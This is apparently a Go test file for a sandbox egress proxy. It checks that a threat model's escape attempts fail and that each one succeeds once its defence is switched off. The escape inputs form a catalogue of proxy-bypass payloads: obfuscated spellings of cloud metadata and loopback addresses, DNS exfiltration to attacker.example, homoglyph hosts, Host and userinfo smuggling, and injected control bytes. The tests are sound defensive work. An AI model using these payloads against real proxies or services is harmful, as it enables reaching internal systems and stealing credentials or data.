package egress

import (
	"slices"
	"testing"
)

// escape is one of the threat model's attempts: with everything on it reaches nothing, and with one defence off it
// does, so that the test would notice if that defence were gone.
type escape struct {
	id, name string
	try      func(*world) (out bool) // out: it got somewhere, or learnt something
	broken   defence                 // the proxy that lacks these lets it out
}

func tunnel(authorities ...string) func(*world) bool {
	return func(w *world) bool {
		out := false
		for _, a := range authorities {
			out = w.open(a) || out
		}
		return out || len(w.wentTo()) > 0
	}
}

func raw(requests ...string) func(*world) bool {
	return func(w *world) bool {
		out := false
		for _, r := range requests {
			status := w.raw(r)
			out = out || status >= 200 && status < 300
		}
		return out
	}
}

// crowd is the attempt for which the proxy has two places only.
const crowd = "more connections than there are places"

func TestE15_E16_E17_E18_E19_NoWayOutButTheList(t *testing.T) {
	t.Parallel()
	metadata := []string{"169.254.169.254:80", "[fd00:ec2::254]:80", "2852039166:80", "0xa9fea9fe:80", "0xA9.0xFE.0xA9.0xFE:80", "0251.0376.0251.0376:80",
		"169.254.43518:80", "[::ffff:169.254.169.254]:80", "[::ffff:a9fe:a9fe]:80", "169.254.169.254.:80", "[64:ff9b::a9fe:a9fe]:80"}
	loopback := []string{"127.0.0.1:443", "[::1]:443", "0.0.0.0:443", "127.1:443", "0:443", "2130706433:443", "0x7f000001:443", "017700000001:443", "[::]:443",
		"[::ffff:127.0.0.1]:443", "127.0.0.1.:443", "::1:443", "[::1%lo]:443"}
	for _, e := range []escape{
		{"E15", "the gateway by an address of loopback", tunnel(loopback...), checkLiteral | checkAddress | checkList},
		{"E15", "the gateway by localhost, which the operator listed", tunnel("localhost:443"), checkAddress},
		{"E15", "the gateway by the machine's own name", tunnel("own.example:443"), checkOwn},
		{"E16", "a name that carries data to its name server", func(w *world) bool {
			w.open("c2VjcmV0.attacker.example:443")
			w.raw("GET http://c2VjcmV0.attacker.example/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.example\r\n\r\n")
			return len(w.lookedUp()) > 0
		}, checkBeforeLookup},
		{"E16", "the port of DNS on a listed host", tunnel("a.example:53"), checkPort},
		{"E16", "datagrams through the proxy", raw("CONNECT-UDP a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n",
			"GET http://other.example/.well-known/masque/udp/8.8.8.8/53/ HTTP/1.1\r\nHost: other.example\r\nConnection: Upgrade\r\nUpgrade: connect-udp\r\n\r\n"), checkList},
		{"E17", "metadata services in every spelling", tunnel(metadata...), checkLiteral | checkAddress | checkList},
		{"E17", "letters that look like a listed name", raw("CONNECT ａ.example:443 HTTP/1.1\r\nHost: ａ.example:443\r\n\r\n",
			"CONNECT a。example:443 HTTP/1.1\r\nHost: a。example:443\r\n\r\n"), checkBytes | checkASCII | checkHost},
		{"E17", "a look-alike as IDNA writes it", tunnel("xn--7ca.example:443", "xn--other-9qa.example:443"), checkList},
		{"E18", "a listed name that leads to a private address among others", tunnel("mixed.example:443"), checkAddress},
		{"E18", "a listed name that leads elsewhere the second time", func(w *world) bool {
			w.open("rebind.example:443")
			return slices.Contains(w.wentTo(), "127.0.0.1:443") || len(w.lookedUp()) != 1
		}, pinAddress},
		{"E19", "user information in front of the host", raw("CONNECT a.example:443@a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n",
			"GET http://other.example:80@a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n"), checkUserinfo},
		{"E19", "a name that only ends as a listed one", tunnel("evilbelow.example:443"), checkSuffix},
		{"E19", "another port of a listed host", tunnel("a.example:22", "a.example:8443", "x.below.example:80"), checkPort},
		{"E19", "a Host that names another than the address", raw("GET http://a.example/ HTTP/1.1\r\nHost: other.example\r\n\r\n",
			"GET http://a.example/ HTTP/1.1\r\n\r\n", "GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\nHost: other.example\r\n\r\n",
			"CONNECT a.example:443 HTTP/1.1\r\nHost: other.example:443\r\n\r\n"), checkHost},
		{"E19", "NUL, lone line ends and control bytes", raw("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\nX: a\x00b\r\n\r\n",
			"CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\nX: a\rY: b\r\n\r\n", "CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\nX: \x1b[2J\r\n\r\n",
			"GET http://a.example/\x7f HTTP/1.1\r\nHost: a.example\r\n\r\n"), checkBytes},
		{"E19", "a host that is not on the list, to which a listed one may redirect", tunnel("other.example:443", "other.example:80"), checkList},
		{"E19", crowd, func(w *world) bool {
			for range 2 { // the proxy of this test has two
				if c := w.connect(); true {
					if _, err := c.Write([]byte("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n")); err != nil {
						return false
					}
					if _, err := c.Read(make([]byte, 12)); err != nil {
						return false
					}
				}
			}
			return w.open("a.example:443")
		}, boundConnections},
	} {
		t.Run(e.id+" "+e.name, func(t *testing.T) {
			t.Parallel()
			few := func(p *Proxy) {
				if e.name == crowd {
					p.Limits.Connections = 2
				}
			}
			if w := newWorld(t, few); e.try(w) {
				t.Errorf("it got out: looked up %v, connected to %v", w.lookedUp(), w.wentTo())
			}
			if !canWeaken {
				t.Skip("refused; this program has no broken proxies: they need -tags sandboxweak, with which .ci/escapes runs them")
			}
			if w := newWorld(t, func(p *Proxy) { few(p); p.off = weaken(e.broken) }); !e.try(w) {
				t.Error("with the defence off nothing got out either: the test would not notice if it were gone")
			}
		})
	}
}
